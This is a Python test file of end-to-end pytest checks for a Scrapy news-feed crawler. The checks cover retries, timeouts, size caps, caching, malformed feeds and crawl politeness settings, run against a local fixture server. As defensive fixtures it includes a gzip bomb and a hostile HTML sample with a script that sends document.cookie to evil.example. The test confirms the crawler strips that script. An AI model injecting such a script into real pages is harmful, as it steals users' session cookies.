"""Crawls that go wrong, end to end: the real Scrapy engine over HTTP against a local server
serving fixtures, through ``run_and_store`` into a temporary SQLite database.

Each bad answer or bad input must be recorded on the run and on the source's health in words
a person can act on, must never crash the run, and must never cost another source (or the
source's own earlier run) a stored item. Robots.txt, the User-Agent, the pace, pagination and
``If-None-Match`` are covered in ``test_live_crawl.py``.
"""

from __future__ import annotations

import gzip
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.utils import formatdate
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from core.db import make_engine
from core.models import CrawlRun, Item, Source
from crawlers.outcome import CrawlOutcome
from crawlers.pipeline import run_and_store
from crawlers.store import StoreResult
from tests.crawlers.conftest import FIXTURES
from tests.crawlers.test_parsing import BILLION_LAUGHS, EXTERNAL_ENTITY
from tests.servers import serving

EUIPO_FEED = (FIXTURES / "euipo_news" / "euipo_news_rss_2025-06.xml").read_bytes()
WIPO_FEED = (FIXTURES / "wipo_news" / "wipo_pressroom_rss_2025-03.xml").read_bytes()
ROBOTS = b"User-agent: *\nDisallow: /private/\n"
ETAG = '"euipo-2025-06"'


def rss(items: str) -> bytes:
    """An RSS 2.0 feed holding the given ``<item>`` elements."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
        "<title>EUIPO - News</title><link>https://www.euipo.europa.eu/en/news</link>"
        f"<description>News</description>{items}</channel></rss>"
    ).encode()


def rss_item(number: int, pub_date: str = "Mon, 02 Jun 2025 09:00:00 +0200", html: str = "") -> str:
    link = f"https://www.euipo.europa.eu/en/news/item-{number}"
    return (
        f"<item><title>News item {number}</title><link>{link}</link><guid>{link}</guid>"
        f"<pubDate>{pub_date}</pubDate><description><![CDATA[{html}]]></description></item>"
    )


@dataclass
class Reply:
    """One answer of the test server."""

    body: bytes = b""
    status: int = 200
    content_type: str = "application/rss+xml; charset=utf-8"
    delay: float = 0.0
    etag: str | None = None
    declare_length: bool = True  # False: the body ends when the connection closes
    content_encoding: str | None = None
    last_modified: str | None = None


@dataclass
class Seen:
    """One request the server received."""

    path: str
    headers: dict[str, str]
    at: float = field(default_factory=time.monotonic)


class FixtureServer(ThreadingHTTPServer):
    """Serves robots.txt and, per path, its replies in turn (the last one repeats)."""

    daemon_threads = True
    routes: dict[str, list[Reply]]
    seen: list[Seen]
    database_url: str

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}{path}"

    def requests_to(self, path: str) -> list[Seen]:
        return [s for s in self.seen if s.path == path]

    def reply_to(self, path: str) -> Reply:
        replies = self.routes.get(path)
        if not replies:
            return Reply(b"not here", 404, "text/plain")
        return replies[min(len(self.requests_to(path)) - 1, len(replies) - 1)]


class Handler(BaseHTTPRequestHandler):
    server: FixtureServer

    def do_GET(self) -> None:
        self.server.seen.append(Seen(self.path, dict(self.headers)))
        if self.path == "/robots.txt":
            self._send(Reply(ROBOTS, content_type="text/plain"))
            return
        reply = self.server.reply_to(self.path)
        time.sleep(reply.delay)
        if reply.etag is not None and self.headers.get("If-None-Match") == reply.etag:
            reply = Reply(b"", 304, etag=reply.etag)
        modified = reply.last_modified
        if modified is not None and self.headers.get("If-Modified-Since") == modified:
            reply = Reply(b"", 304, last_modified=modified)
        self._send(reply)

    def _send(self, reply: Reply) -> None:
        try:
            self.send_response(reply.status)
            self.send_header("Content-Type", reply.content_type)
            if reply.etag is not None:
                self.send_header("ETag", reply.etag)
            if reply.content_encoding is not None:
                self.send_header("Content-Encoding", reply.content_encoding)
            if reply.last_modified is not None:
                self.send_header("Last-Modified", reply.last_modified)
            if reply.declare_length:
                self.send_header("Content-Length", str(len(reply.body)))
            self.end_headers()
            self.wfile.write(reply.body)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the crawler gave up first (timeout, size cap): that is the point

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def site(db: str) -> Iterator[FixtureServer]:
    httpd = FixtureServer(("127.0.0.1", 0), Handler)
    httpd.routes, httpd.seen, httpd.database_url = {}, [], db
    with serving(httpd):
        yield httpd


def crawl(
    site: FixtureServer, source_id: str, path: str, **settings: object
) -> tuple[CrawlOutcome, StoreResult]:
    """``run_and_store`` of one source, its start URL on the test server."""
    return run_and_store(
        source_id,
        in_subprocess=True,
        database_url=site.database_url,
        start_url=site.url(path),
        settings=settings or None,
    )


def source_row(site: FixtureServer, source_id: str) -> Source:
    with Session(make_engine(site.database_url)) as session:
        return session.get_one(Source, source_id)


def runs_of(site: FixtureServer, source_id: str) -> list[CrawlRun]:
    with Session(make_engine(site.database_url)) as session:
        query = select(CrawlRun).filter_by(source_id=source_id).order_by(CrawlRun.id)
        return list(session.scalars(query))


def items_of(site: FixtureServer, source_id: str) -> list[Item]:
    with Session(make_engine(site.database_url)) as session:
        return list(session.scalars(select(Item).filter_by(source_id=source_id)))


def item_count(site: FixtureServer) -> int:
    with Session(make_engine(site.database_url)) as session:
        return session.scalar(select(func.count()).select_from(Item)) or 0


# Bad answers ---------------------------------------------------------------------------


def test_a_server_error_is_retried_and_the_retry_is_stored(site: FixtureServer) -> None:
    site.routes["/feed.xml"] = [Reply(b"busy", 500, "text/plain"), Reply(EUIPO_FEED)]
    outcome, result = crawl(site, "euipo_news", "/feed.xml")
    assert len(site.requests_to("/feed.xml")) == 2
    assert result.new == 6 and not outcome.failed
    [run] = runs_of(site, "euipo_news")
    assert run.status == "ok" and run.items_new == 6
    assert run.http_statuses == {"200": 2, "500": 1}, "robots.txt, the 500, the retry"
    assert source_row(site, "euipo_news").healthy is True


def test_a_timeout_fails_the_run_with_a_readable_reason(site: FixtureServer) -> None:
    site.routes["/feed.xml"] = [Reply(EUIPO_FEED, delay=4.0)]
    outcome, result = crawl(site, "euipo_news", "/feed.xml", DOWNLOAD_TIMEOUT=1, RETRY_TIMES=1)
    assert len(site.requests_to("/feed.xml")) == 2, "one retry, then it gives up"
    assert outcome.failed and result.new == 0
    [run] = runs_of(site, "euipo_news")
    assert run.status == "failed" and run.http_statuses == {"200": 1}
    [error] = [e for e in run.errors if e["fatal"]]
    assert error["kind"] == "network" and error["location"] == site.url("/feed.xml")
    assert "took longer than 1" in error["message"]
    source = source_row(site, "euipo_news")
    assert source.healthy is False
    assert source.health_reason is not None
    assert source.health_reason.startswith(f"last run failed: network: {site.url('/feed.xml')}: ")
    assert "took longer than 1" in source.health_reason


@pytest.mark.parametrize(
    ("declare_length", "reason"),
    [
        (True, f"body declares {len(EUIPO_FEED)} bytes, over the 4000-byte cap"),
        (False, "body passed the 4000-byte cap after"),
    ],
    ids=["declared", "streamed"],
)
def test_an_oversized_body_is_refused_without_crashing(
    site: FixtureServer, declare_length: bool, reason: str
) -> None:
    assert len(EUIPO_FEED) > 4000
    site.routes["/feed.xml"] = [Reply(EUIPO_FEED, declare_length=declare_length)]
    outcome, result = crawl(site, "euipo_news", "/feed.xml", DOWNLOAD_MAXSIZE=4000)
    assert outcome.failed and result.new == 0 and outcome.finish_reason == "finished"
    assert outcome.settings["DOWNLOAD_MAXSIZE"] == 4000
    [run] = runs_of(site, "euipo_news")
    assert run.status == "failed" and run.items_seen == 0
    assert [(e["kind"], e["fatal"]) for e in run.errors] == [("payload", True)]
    source = source_row(site, "euipo_news")
    assert source.healthy is False
    assert source.health_reason is not None
    assert source.health_reason.startswith(f"last run failed: payload: {site.url('/feed.xml')}: ")
    assert reason in source.health_reason


def test_a_gzip_bomb_fails_the_run_as_a_payload_not_as_robots_txt(site: FixtureServer) -> None:
    """Scrapy stops decompressing at the size cap; the run once blamed robots.txt for it."""
    bomb = gzip.compress(b"<rss>" + b" " * 8_000_000, 9)
    assert len(bomb) < 10_000
    site.routes["/feed.xml"] = [Reply(bomb, content_encoding="gzip")]
    outcome, result = crawl(site, "euipo_news", "/feed.xml", DOWNLOAD_MAXSIZE=1_000_000)
    assert outcome.failed and result.new == 0
    [problem] = outcome.fatal_problems
    assert problem.kind == "payload"
    assert "exceeded DOWNLOAD_MAXSIZE (1000000 B) during decompression" in problem.message
    reason = source_row(site, "euipo_news").health_reason or ""
    assert reason.startswith(f"last run failed: payload: {site.url('/feed.xml')}: ")


def test_a_304_serves_the_cached_feed_without_downloading_it_again(site: FixtureServer) -> None:
    site.routes["/feed.xml"] = [Reply(EUIPO_FEED, etag=ETAG)]
    _, first = crawl(site, "euipo_news", "/feed.xml")
    again, second = crawl(site, "euipo_news", "/feed.xml")
    assert [s.headers.get("If-None-Match") for s in site.requests_to("/feed.xml")] == [None, ETAG]
    assert first.new == 6 and len(again.items) == 6
    assert (second.new, second.changed, second.unchanged) == (0, 0, 6)
    runs = runs_of(site, "euipo_news")
    assert runs[1].status == "ok" and runs[1].items_seen == 6
    assert runs[1].http_statuses.get("304") == 1, "the feed answered Not Modified"
    assert again.stats["httpcache/revalidate"] >= 1
    feed_bytes = again.stats["downloader/response_bytes"]
    assert feed_bytes < len(EUIPO_FEED), "the body came from the cache, not the network"
    assert source_row(site, "euipo_news").healthy is True


@pytest.mark.parametrize(
    ("down", "reason"),
    [(Reply(b"down for maintenance", 503, "text/plain"), "HTTP 503"),
     (Reply(EUIPO_FEED, delay=3.0), "took longer than 1")],
    ids=["server-error", "timeout"],
)  # fmt: skip
def test_a_source_down_after_a_cached_run_fails_its_run_and_loses_nothing(
    site: FixtureServer, down: Reply, reason: str
) -> None:
    """The HTTP cache once answered these from its stale copy: the run was recorded as
    healthy with the old items while the site was down."""
    up = Reply(EUIPO_FEED, etag=ETAG)
    site.routes["/feed.xml"] = [up, down, down, up]
    crawl(site, "euipo_news", "/feed.xml", DOWNLOAD_TIMEOUT=1, RETRY_TIMES=1)
    outcome, result = crawl(site, "euipo_news", "/feed.xml", DOWNLOAD_TIMEOUT=1, RETRY_TIMES=1)
    assert len(site.requests_to("/feed.xml")) == 3, "the first run, then a try and a retry"
    assert outcome.failed and result.new == 0 and not outcome.items
    source = source_row(site, "euipo_news")
    assert source.healthy is False
    assert reason in (source.health_reason or "")
    assert len(items_of(site, "euipo_news")) == 6, "the earlier run's items stay"
    back, _ = crawl(site, "euipo_news", "/feed.xml", DOWNLOAD_TIMEOUT=1, RETRY_TIMES=1)
    assert site.requests_to("/feed.xml")[-1].headers.get("If-None-Match") == ETAG
    assert not back.failed and len(back.items) == 6, "the next run revalidates the stored copy"
    assert source_row(site, "euipo_news").healthy is True
    assert [r.status for r in runs_of(site, "euipo_news")] == ["ok", "failed", "ok"]


def test_a_feed_last_changed_long_ago_is_still_asked_about_on_every_run(
    site: FixtureServer,
) -> None:
    """With only a Last-Modified header, the RFC 2616 cache guessed the feed fresh for a tenth
    of its age (three days for a feed unchanged for a month) and did not ask at all: news
    published meanwhile reached nobody until the guess ran out."""
    month_ago = formatdate(time.time() - 30 * 86400, usegmt=True)
    site.routes["/feed.xml"] = [
        Reply(EUIPO_FEED, last_modified=month_ago),
        Reply(rss(rss_item(1) + rss_item(7)), last_modified=formatdate(usegmt=True)),
    ]
    crawl(site, "euipo_news", "/feed.xml")
    again, result = crawl(site, "euipo_news", "/feed.xml")
    requests = site.requests_to("/feed.xml")
    assert [r.headers.get("If-Modified-Since") for r in requests] == [None, month_ago]
    assert result.new == 2 and not again.failed, "the new entries are read at once"


# Bad input -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (EUIPO_FEED[:1500], "not well-formed XML"),
        (BILLION_LAUGHS, "XML declares entity 'lol': refused"),
        (EXTERNAL_ENTITY, "XML declares entity 'xxe': refused"),
    ],
    ids=["truncated", "billion-laughs", "external-entity"],
)
def test_a_malformed_or_hostile_feed_fails_the_run_and_says_why(
    site: FixtureServer, body: bytes, reason: str
) -> None:
    site.routes["/feed.xml"] = [Reply(body)]
    outcome, result = crawl(site, "euipo_news", "/feed.xml")
    assert outcome.failed and result.new == 0 and item_count(site) == 0
    [run] = runs_of(site, "euipo_news")
    assert run.status == "failed" and run.http_statuses == {"200": 2}
    assert [e["kind"] for e in run.errors if e["fatal"]] == ["payload"]
    source = source_row(site, "euipo_news")
    assert source.healthy is False
    assert (
        source.health_reason
        == f"last run failed: payload: {site.url('/feed.xml')}: " + (run.errors[0]["message"])
    )
    assert reason in source.health_reason
    assert "root:" not in str(run.errors), "no external entity was ever resolved"


def test_scripts_in_entries_never_reach_the_stored_text(site: FixtureServer) -> None:
    hostile = (
        "<p>Fees change.</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        '<style>p {display:none}</style><p onclick="steal()">Read <b>more</b>.</p>'
    )
    site.routes["/feed.xml"] = [Reply(rss(rss_item(1, html=hostile) + rss_item(2) + rss_item(3)))]
    outcome, result = crawl(site, "euipo_news", "/feed.xml")
    assert result.new == 3 and not outcome.failed
    stored = {item.raw_ref: item for item in items_of(site, "euipo_news")}
    summary = stored["https://www.euipo.europa.eu/en/news/item-1"].summary
    assert summary == "Fees change.\n\nRead more."
    assert not any(word in summary for word in ("evil", "cookie", "display", "steal", "<"))
    assert source_row(site, "euipo_news").healthy is True


def test_unreadable_dates_are_left_empty_and_named_in_the_run_errors(
    site: FixtureServer,
) -> None:
    feed = rss(
        rss_item(1, pub_date="Thursday the 5th of Smarch")
        + rss_item(2, pub_date="05.02.2025")  # 5 February or 2 May: never guessed
        + rss_item(3)
    )
    site.routes["/feed.xml"] = [Reply(feed)]
    outcome, result = crawl(site, "euipo_news", "/feed.xml")
    assert result.new == 3 and not outcome.failed
    dates = {i.raw_ref.rsplit("-", 1)[-1]: i.published_at for i in items_of(site, "euipo_news")}
    assert dates["1"] is None and dates["2"] is None and dates["3"] is not None
    [run] = runs_of(site, "euipo_news")
    messages = [e["message"] for e in run.errors if e["kind"] == "date"]
    assert "published: unreadable date 'Thursday the 5th of Smarch'" in messages
    assert "published: ambiguous date '05.02.2025': day and month could be either" in messages
    source = source_row(site, "euipo_news")
    assert source.healthy is True, "three items: enough; the dates are warnings"
    assert source.health_reason is not None
    assert source.health_reason.startswith("last run had 4 warnings (date 4); first: date: ")
    assert "Thursday the 5th of Smarch" in source.health_reason


def test_a_changed_layout_that_yields_no_items_marks_the_source_unhealthy(
    site: FixtureServer,
) -> None:
    changed = b'<?xml version="1.0"?><NOTICE type="object"><RESOURCE><URI/></RESOURCE></NOTICE>'
    site.routes["/resource/celex/32018R0196"] = [Reply(changed, content_type="application/xml")]
    outcome, result = crawl(site, "eu_official_journal", "/resource/celex/32018R0196")
    [request] = site.requests_to("/resource/celex/32018R0196")
    assert request.headers["Accept"] == "application/xml;notice=branch"
    assert not outcome.failed and result.new == 0
    [run] = runs_of(site, "eu_official_journal")
    assert run.status == "ok" and run.items_seen == 0
    assert [e["kind"] for e in run.errors] == ["empty"]
    source = source_row(site, "eu_official_journal")
    assert source.healthy is False
    assert source.health_reason == "last run found 0 items; at least 1 expected"


def test_a_broken_source_loses_nothing_of_a_good_one(site: FixtureServer) -> None:
    site.routes["/euipo.xml"] = [Reply(EUIPO_FEED), Reply(BILLION_LAUGHS)]
    site.routes["/wipo.xml"] = [Reply(WIPO_FEED)]
    crawl(site, "euipo_news", "/euipo.xml")
    crawl(site, "wipo_news", "/wipo.xml")
    broken, result = crawl(site, "euipo_news", "/euipo.xml")
    assert broken.failed and result.new == 0
    assert len(items_of(site, "wipo_news")) == 5
    assert len(items_of(site, "euipo_news")) == 6, "the earlier run's items stay"
    wipo, euipo = source_row(site, "wipo_news"), source_row(site, "euipo_news")
    assert wipo.healthy is True and wipo.items_count == 5
    assert euipo.healthy is False and euipo.items_count == 6
    assert "XML declares entity 'lol'" in (euipo.health_reason or "")
    assert euipo.last_success_at is not None and euipo.last_run_at is not None
    assert euipo.last_success_at < euipo.last_run_at
    assert [r.status for r in runs_of(site, "euipo_news")] == ["ok", "failed"]


# Overrides -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("override", "reason"),
    [
        ({"DOWNLOAD_DELAY": 0.1}, "DOWNLOAD_DELAY must be at least 1.0 s"),
        ({"ROBOTSTXT_OBEY": False}, "ROBOTSTXT_OBEY must stay True"),
        ({"USER_AGENT": "curl/8"}, "USER_AGENT cannot be overridden"),
        ({"CONCURRENT_REQUESTS_PER_DOMAIN": 16}, "CONCURRENT_REQUESTS_PER_DOMAIN must be 1 to 4"),
        ({"DOWNLOAD_TIMEOUTS": 1}, "'DOWNLOAD_TIMEOUTS' is not a Scrapy setting"),
    ],
)
def test_a_crawl_override_cannot_weaken_politeness(
    db: str, data_dir: Path, override: dict[str, object], reason: str
) -> None:
    with pytest.raises(ValueError, match=reason):
        run_and_store("euipo_news", in_subprocess=True, database_url=db, settings=override)
    with Session(make_engine(db)) as session:
        assert session.scalar(select(func.count()).select_from(CrawlRun)) == 0
